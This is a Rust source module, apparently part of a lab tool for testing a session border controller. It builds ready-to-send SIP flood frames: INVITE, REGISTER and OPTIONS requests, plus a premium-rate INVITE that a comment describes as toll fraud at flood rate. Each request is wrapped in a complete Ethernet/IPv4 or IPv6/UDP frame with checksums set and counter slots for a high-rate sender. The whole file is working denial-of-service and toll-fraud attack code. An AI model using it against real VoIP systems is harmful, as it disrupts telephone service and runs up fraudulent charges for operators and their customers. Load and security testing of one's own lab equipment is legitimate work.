//! The frames a flood sends: SIP requests (INVITE, REGISTER, OPTIONS, a
//! premium-rate INVITE) in complete Ethernet/IPv4 or IPv6/UDP frames, their
//! checksums set, with `#` marks where the sender writes its counter.

use std::net::{IpAddr, SocketAddr, SocketAddrV4, SocketAddrV6};

use anyhow::{bail, Result};
use serde::{Deserialize, Serialize};

use crate::csum;

/// Width of the per-packet counter in the payload (hex digits).
pub const COUNTER_DIGITS: usize = 16;
pub const MARK: &[u8; COUNTER_DIGITS] = b"################";

/// The SIP request the flood sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum FloodMethod {
    Invite,
    Register,
    Options,
    /// An INVITE to a premium-rate number (00899…, SPEC §11): toll fraud
    /// at flood rate.
    Premium,
}

impl FloodMethod {
    pub fn parse(s: &str) -> Result<FloodMethod> {
        Ok(match s.to_ascii_uppercase().as_str() {
            "INVITE" => FloodMethod::Invite,
            "REGISTER" => FloodMethod::Register,
            "OPTIONS" => FloodMethod::Options,
            "PREMIUM" => FloodMethod::Premium,
            _ => bail!("unknown method {s:?} (INVITE, REGISTER, OPTIONS or PREMIUM)"),
        })
    }

    pub fn as_str(self) -> &'static str {
        match self {
            FloodMethod::Invite => "INVITE",
            FloodMethod::Register => "REGISTER",
            FloodMethod::Options => "OPTIONS",
            FloodMethod::Premium => "PREMIUM",
        }
    }

    /// The request line's method.
    pub fn sip_name(self) -> &'static str {
        match self {
            FloodMethod::Premium => "INVITE",
            m => m.as_str(),
        }
    }
}

/// The host name flood requests carry in Via, From, Contact and Call-ID
/// (the SBC answers to the packet's source address and port, `rport`).
const ATTACKER_HOST: &str = "attacker.invalid";

/// The SIP payload of one flood request; `#` x16 marks the counter fields.
pub fn sip_payload(method: FloodMethod, sport: u16, dst: SocketAddrV4, ua: &str) -> Vec<u8> {
    sip_payload_to(method, sport, dst.into(), ua)
}

/// [`sip_payload`] to an IPv4 or IPv6 destination (`[addr]` in the URIs).
pub fn sip_payload_to(method: FloodMethod, sport: u16, dst: SocketAddr, ua: &str) -> Vec<u8> {
    let m = std::str::from_utf8(MARK).expect("ascii");
    let dip = match dst.ip() {
        IpAddr::V4(a) => a.to_string(),
        IpAddr::V6(a) => format!("[{a}]"),
    };
    let h = ATTACKER_HOST;
    let (ruri, to, extra, body) = match method {
        FloodMethod::Invite => (
            format!("sip:2000@{dip}"),
            format!("<sip:2000@{dip}>"),
            "Content-Type: application/sdp\r\n".to_string(),
            "v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0 8 101\r\n\
             a=rtpmap:0 PCMU/8000\r\na=rtpmap:8 PCMA/8000\r\na=rtpmap:101 telephone-event/8000\r\n"
                .to_string(),
        ),
        FloodMethod::Register => (
            "sip:sbc.lab".to_string(),
            "<sip:1000@sbc.lab>".to_string(),
            format!("Contact: <sip:1000@{h}:{sport}>\r\nExpires: 300\r\n"),
            String::new(),
        ),
        FloodMethod::Options => (format!("sip:{dip}"), format!("<sip:{dip}>"), String::new(), String::new()),
        FloodMethod::Premium => (
            format!("sip:00899123456@{dip}"),
            format!("<sip:00899123456@{dip}>"),
            String::new(),
            String::new(),
        ),
    };
    let name = method.sip_name();
    let from_user = if method == FloodMethod::Register {
        "1000"
    } else {
        "caller"
    };
    let contact = if matches!(method, FloodMethod::Invite | FloodMethod::Premium) {
        format!("Contact: <sip:caller@{h}:{sport}>\r\n")
    } else {
        String::new()
    };
    format!(
        "{name} {ruri} SIP/2.0\r\n\
         Via: SIP/2.0/UDP {h}:{sport};branch=z9hG4bK{m};rport\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:{from_user}@{h}>;tag={m}\r\n\
         To: {to}\r\n\
         Call-ID: {m}@{h}\r\n\
         CSeq: 1 {name}\r\n\
         {contact}\
         User-Agent: {ua}\r\n\
         {extra}\
         Content-Length: {len}\r\n\r\n{body}",
        len = body.len(),
    )
    .into_bytes()
}

/// A complete Ethernet/IPv4/UDP frame (IP checksum set; UDP checksum 0,
/// which IPv4 allows).
pub fn udp_frame(
    src_mac: [u8; 6],
    dst_mac: [u8; 6],
    src: SocketAddrV4,
    dst: SocketAddrV4,
    payload: &[u8],
) -> Vec<u8> {
    let mut f = ethernet(src_mac, dst_mac, 0x0800, 42 + payload.len());
    let total = (20 + 8 + payload.len()) as u16;
    let mut ip = [0u8; 20];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&total.to_be_bytes());
    ip[6] = 0x40; // DF
    ip[8] = 64;
    ip[9] = 17;
    ip[12..16].copy_from_slice(&src.ip().octets());
    ip[16..20].copy_from_slice(&dst.ip().octets());
    let sum = csum::checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    f.extend_from_slice(&ip);
    f.extend_from_slice(&udp_header(src.port(), dst.port(), payload.len()));
    f.extend_from_slice(payload);
    f
}

/// A complete Ethernet/IPv6/UDP frame, UDP checksum set (IPv6 requires
/// one).
pub fn udp6_frame(
    src_mac: [u8; 6],
    dst_mac: [u8; 6],
    src: SocketAddrV6,
    dst: SocketAddrV6,
    payload: &[u8],
) -> Vec<u8> {
    let mut f = ethernet(src_mac, dst_mac, 0x86dd, 62 + payload.len());
    let udp_len = (8 + payload.len()) as u16;
    f.extend_from_slice(&[0x60, 0, 0, 0]);
    f.extend_from_slice(&udp_len.to_be_bytes());
    f.extend_from_slice(&[17, 64]); // next header UDP, hop limit
    f.extend_from_slice(&src.ip().octets());
    f.extend_from_slice(&dst.ip().octets());
    let mut segment = udp_header(src.port(), dst.port(), payload.len()).to_vec();
    segment.extend_from_slice(payload);
    let sum = csum::udp6(&src.ip().octets(), &dst.ip().octets(), &segment);
    segment[6..8].copy_from_slice(&sum.to_be_bytes());
    f.extend_from_slice(&segment);
    f
}

/// An Ethernet header, in a buffer for a frame of `capacity` bytes.
fn ethernet(src_mac: [u8; 6], dst_mac: [u8; 6], ethertype: u16, capacity: usize) -> Vec<u8> {
    let mut f = Vec::with_capacity(capacity);
    f.extend_from_slice(&dst_mac);
    f.extend_from_slice(&src_mac);
    f.extend_from_slice(&ethertype.to_be_bytes());
    f
}

/// A UDP header, checksum 0.
fn udp_header(sport: u16, dport: u16, payload_len: usize) -> [u8; 8] {
    let mut h = [0u8; 8];
    h[0..2].copy_from_slice(&sport.to_be_bytes());
    h[2..4].copy_from_slice(&dport.to_be_bytes());
    h[4..6].copy_from_slice(&((8 + payload_len) as u16).to_be_bytes());
    h
}
